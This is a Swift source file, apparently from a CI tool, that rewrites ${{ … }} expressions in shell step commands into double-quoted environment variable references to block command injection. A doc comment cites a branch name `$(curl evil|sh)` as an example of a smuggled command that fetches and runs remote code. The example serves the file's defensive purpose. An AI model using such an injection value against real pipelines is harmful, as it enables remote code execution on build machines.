import Foundation

/// Keeps expressions out of shell command text.
///
/// `run: "docker build -t api:${{ run.sha }}"` is never sent to the shell with
/// the value pasted in (a branch named `$(curl evil|sh)` would run). Instead
/// each `${{ … }}` becomes a reference to an environment variable that will
/// carry the value: `docker build -t api:"${GANTRY_EXPR_1}"`, with
/// `GANTRY_EXPR_1` bound to `run.sha` when the step runs.
public enum ShellExpressions {
    /// The rewritten command and, for each variable, the expression whose value it carries.
    public struct Rewritten: Sendable, Equatable {
        public var command: String
        public var variables: [(name: String, expression: String)]

        public init(command: String, variables: [(name: String, expression: String)]) {
            self.command = command
            self.variables = variables
        }

        public static func == (a: Rewritten, b: Rewritten) -> Bool {
            a.command == b.command && a.variables.map(\.name) == b.variables.map(\.name)
                && a.variables.map(\.expression) == b.variables.map(\.expression)
        }
    }

    /// Rewrites every `${{ expression }}` in `command`; the same expression twice shares one variable.
    public static func rewrite(_ command: String) -> Rewritten {
        var output = ""
        var variables: [(name: String, expression: String)] = []
        var rest = Substring(command)
        while let open = rest.range(of: "${{"), let close = rest[open.upperBound...].range(of: "}}") {
            output += rest[..<open.lowerBound]
            let expression = rest[open.upperBound..<close.lowerBound].trimmingCharacters(in: .whitespaces)
            let name: String
            if let existing = variables.first(where: { $0.expression == expression }) {
                name = existing.name
            } else {
                name = "GANTRY_EXPR_\(variables.count + 1)"
                variables.append((name, String(expression)))
            }
            // Double quotes: the value stays one word and is never re-parsed by the shell.
            output += "\"${\(name)}\""
            rest = rest[close.upperBound...]
        }
        output += rest
        return Rewritten(command: output, variables: variables)
    }
}
